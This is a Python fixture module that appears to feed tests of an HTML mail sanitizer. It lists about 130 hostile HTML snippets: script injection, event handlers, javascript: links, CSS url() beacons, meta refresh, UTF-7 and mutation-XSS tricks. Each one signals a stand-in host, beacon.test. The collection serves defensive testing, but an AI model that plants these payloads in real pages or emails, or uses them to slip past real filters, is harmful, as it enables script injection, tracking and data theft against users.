"""Pages of hostile mail; each tries to run a script, to send a request, or to open a page.

Every script writes `hit` to the console and requests an address of `BEACON`. Scripts of `PRESSED`
run when the element `#press` is pressed, the others at once.
"""

BEACON = "https://beacon.test"
RUN = f"console.log('hit');new Image().src='{BEACON}/script'"
B = BEACON
_RULES = f'{{"prefetch":[{{"source":"list","urls":["{B}/spec"],"eagerness":"immediate"}}]}}'

AT_ONCE = {
    "script": f"<script>{RUN}</script>",
    "script src": f"<script src={B}/a.js></script>",
    "module": f"<script type=module>import '{B}/m.js'</script>",
    "script in a comment": f"<!--><script>{RUN}</script>-->",
    "script in a broken comment": f"<!-- --!><script>{RUN}</script> -->",
    "script in CDATA": f"<![CDATA[><script>{RUN}</script>]]>",
    "script in a declaration": f"<?xml ><script>{RUN}</script>?>",
    "script of capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script with a slash": f"<script/x>{RUN}</script/x>",
    "nested tags": f"<scr<script>ipt>{RUN}</scr</script>ipt><script>{RUN}</script>",
    "speculation rules": f"<script type=speculationrules>{_RULES}</script>",
    "import map": f'<script type=importmap>{{"imports":{{"a":"{B}/im.js"}}}}</script>'
    "<script type=module>import 'a'</script>",
    "onerror": f'<img src=x: onerror="{RUN}">',
    "onload of svg": f'<svg onload="{RUN}">',
    "onload of body": f'<body onload="{RUN}">',
    "onpageshow": f'<body onpageshow="{RUN}">',
    "onfocus": f'<input autofocus onfocus="{RUN}">',
    "ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "onanimationstart": f'<style>@keyframes x{{}}</style><b style="animation:x 1s" '
    f'onanimationstart="{RUN}">x</b>',
    "onerror of a source": f'<video><source src=x: onerror="{RUN}"></video>',
    "onbegin": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "event after a slash": f'<img/src=x:/onerror="{RUN}">',
    "event after a newline": f'<img src=x:\n\x0conerror\n="{RUN}">',
    "event in entities": "<img src=x: onerror=" + "".join(f"&#{ord(one)};" for one in RUN) + ">",
    "event after NUL": f'<img src=x:\0 onerror="{RUN}">',
    "tag with NUL": f'<im\0g src=x: onerror="{RUN}"><img src=x:\0onerror=1 onerror="{RUN}">',
    "event of an unknown tag": f'<xss autofocus tabindex=1 onfocus="{RUN}">x</xss>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "image": f"<img src={B}/i.png>",
    "image without scheme": "<img src=//beacon.test/i.png>",
    "image with backslashes": r"<img src=https:\\beacon.test\i.png>",
    "image of old html": f"<image src={B}/i.png>",
    "srcset": f"<img srcset='{B}/1x 1x, {B}/2x 2x'>",
    "picture": f"<picture><source srcset={B}/p><img></picture>",
    "lazy image": f"<img loading=eager src={B}/lazy>",
    "input image": f"<input type=image src={B}/in>",
    "background": f"<table background={B}/t><tr><td background={B}/td>x</table>",
    "background of body": f"<body background={B}/b>",
    "style attribute": f"<b style='background:url({B}/s)'>x</b>",
    "style image-set": f"<b style='background:image-set(\"{B}/is\" 1x)'>x</b>",
    "style with an escape": rf"<b style='background:u\72 l({B}/e)'>x</b>",
    "style with a comment": f"<b style='background:/**/url(/**/{B}/c)'>x</b>",
    "style sheet": f"<style>body{{background:url({B}/sheet)}}</style>",
    "style import": f"<style>@import '{B}/import.css';</style>",
    "style in svg": f"<svg><style>@import '{B}/svg.css';</style></svg>",
    "style of a list": f"<ul style='list-style:url({B}/list)'><li>x</ul>",
    "style content": f"<style>b:before{{content:url({B}/content)}}</style><b>x</b>",
    "style cursor": f"<style>*{{cursor:url({B}/cur),auto}}</style>",
    "style of attributes": f"<input value=s><style>[value^=s]{{background:url({B}/at)}}</style>",
    "style border": f"<b style='border-image:url({B}/border) 1'>x</b>",
    "style mask": f"<b style='mask:url({B}/mask)'>x</b>",
    "style filter": f"<b style='filter:url({B}/filter#f)'>x</b>",
    "font": f"<style>@font-face{{font-family:f;src:url({B}/font)}}*{{font-family:f}}</style>x",
    "property": f"<style>*{{--x:url({B}/var);background:var(--x)}}</style>",
    "link to a sheet": f"<link rel=stylesheet href={B}/link.css>",
    "link preload": f"<link rel=preload as=image href={B}/preload>",
    "link prefetch": f"<link rel=prefetch href={B}/prefetch>",
    "link modulepreload": f"<link rel=modulepreload href={B}/mp.js>",
    "link icon": f"<link rel=icon href={B}/icon>",
    "link manifest": f"<link rel=manifest href={B}/manifest>",
    "link dns-prefetch": f"<link rel='dns-prefetch preconnect' href={B}>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={B}/refresh'>",
    "meta refresh to a script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "meta refresh to data": "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>"
    f"<img src={B}/policy>",
    "meta charset": f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-<img src={B}/7>",
    "base": f"<base href={B}/base/><img src=relative.png>",
    "frame": f"<iframe src={B}/frame></iframe>",
    "frame srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame to a script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "frame with data": f"<iframe src='data:text/html,<img src={B}/data>'></iframe>",
    "frameset": f"<frameset><frame src={B}/frameset></frameset>",
    "object": f"<object data={B}/object></object>",
    "object type": f"<object type=text/html data={B}/typed></object>",
    "embed": f"<embed src={B}/embed>",
    "applet": f"<applet code={B}/applet archive={B}/a.jar></applet><img src={B}/applet>",
    "video": f"<video src={B}/video autoplay poster={B}/poster></video>",
    "audio": f"<audio src={B}/audio autoplay></audio>",
    "track": f"<video src={B}/v><track default src={B}/track></video>",
    "svg image": f"<svg><image href={B}/svg xlink:href={B}/x /></svg>",
    "svg use": f"<svg><use href={B}/use#x /></svg>",
    "svg feImage": f"<svg><filter id=f><feImage href={B}/fe /></filter>"
    "<rect filter=url(#f) width=9 height=9 /></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg script href": f"<svg><script href={B}/s.js /></svg>",
    "svg foreignObject": f'<svg><foreignObject><img src=x: onerror="{RUN}"></foreignObject></svg>',
    "svg set": f"<svg><image><set attributeName=href to={B}/set /></image></svg>",
    "math": f"<math><mtext><img src={B}/math></mtext></math>",
    "template": f"<div><template shadowrootmode=open><img src={B}/t></template></div>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x: onerror='{'x'}'>\">"
    f"<img src={B}/noscript></noscript>",
    "title": f"<title><img title='</title><img src={B}/title>'>",
    "textarea": f"<textarea><img title='</textarea><img src={B}/textarea>'>",
    "xmp": f"<xmp><img title='</xmp><img src={B}/xmp>'>",
    "plaintext": f"<img src={B}/pt><plaintext>",
    "select": f"<select><img src=x><option><img src={B}/sel></select><img src={B}/sel>",
    "mutation style in svg": f"<svg></p><style><a id=\"</style><img src=x: onerror='{'0'}'>\">"
    f"<img src={B}/m1></style></svg>",
    "mutation mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    f'&lt;img src={B}/m2&gt;"></table></mtext></math><img src={B}/m2>',
    "mutation form": "<form><math><mtext></form><form><mglyph><style></math><img src="
    f"{B}/m3></style></mglyph></form></mtext></math>",
    "mutation title in svg": f'<svg><desc><title><style><img title="</style><img src={B}/m4>">'
    f"</title></desc></svg><img src={B}/m4>",
    "mutation nested links": f"<a><table><a><svg><style><img src={B}/m5></style></svg></a></table>"
    f"</a><img src={B}/m5>",
    "mutation deep": "<div>" * 600 + f"<svg><style><img src={B}/m6></style></svg><img src={B}/m6>",
    "mutation noembed": f"<noembed><a title='</noembed><img src={B}/m7>'></a></noembed>",
    "attribute with a backtick": f"<img alt='`><img src={B}/bt>`'><img src={B}/bt>",
    "unclosed attribute": f'<img alt="<img src={B}/ua><p title="><img src={B}/ua>',
    "many attributes": "<img " + "x=y " * 400 + f"src={B}/many>",
    "end of the page": f"</section></main></body></html><img src={B}/end>",
    "own style class": f"<p class=target id=press style='position:fixed;background:url({B}/own)'>",
    "no tags of the cleaner": f"</div></section><style>*{{background:url({B}/out)}}</style>",
}
"""name -> page"""

PRESSED = {
    "link to a script": f'<a id=press href="javascript:{RUN}">x</a>',
    "link to a script of capitals": f'<a id=press href="JaVaScRiPt:{RUN}">x</a>',
    "link to a script with a tab": f'<a id=press href="java\tscript:{RUN}">x</a>',
    "link to a script with a newline": f'<a id=press href="java&#10;script:{RUN}">x</a>',
    "link to a script after a control": f'<a id=press href="&#1;javascript:{RUN}">x</a>',
    "link to a script in entities": f'<a id=press href="&#106;avascript&colon;{RUN}">x</a>',
    "link in svg": f'<svg width=99 height=99><a href="javascript:{RUN}"><text id=press y=20>'
    "press</text></a></svg>",
    "link of xlink": f'<svg width=99 height=99><a xlink:href="javascript:{RUN}"><text id=press '
    "y=20>press</text></a></svg>",
    "link in math": f'<math href="javascript:{RUN}"><mtext id=press>press</mtext></math>'
    f'<a href="javascript:{RUN}">x</a>',
    "onclick": f'<b id=press onclick="{RUN}">x</b>',
    "ping": f"<a id=press href='#x' ping={B}/ping>x</a>",
    "form": f"<form action={B}/form><input id=press type=submit value=x></form>",
    "form by post": f"<form method=post action={B}/form><button id=press>x</button></form>",
    "form to a script": f'<form action="javascript:{RUN}"><button id=press>x</button></form>',
    "formaction": f"<form><button id=press formaction={B}/fa>x</button></form>",
    "form elsewhere": f"<form id=f action={B}/else></form><button id=press form=f>x</button>",
    "label": f'<label id=press>x<input type=checkbox onclick="{RUN}"></label>',
    "area": f'<map name=m><area shape=default href="javascript:{RUN}"></map>'
    "<img id=press usemap=#m width=50 height=50>",
    "dialog": f'<button id=press popovertarget=p>x</button><i id=p popover ontoggle="{RUN}">y</i>',
    "details": f'<details ontoggle="{RUN}"><summary id=press>x</summary>y</details>',
}
"""name -> page"""
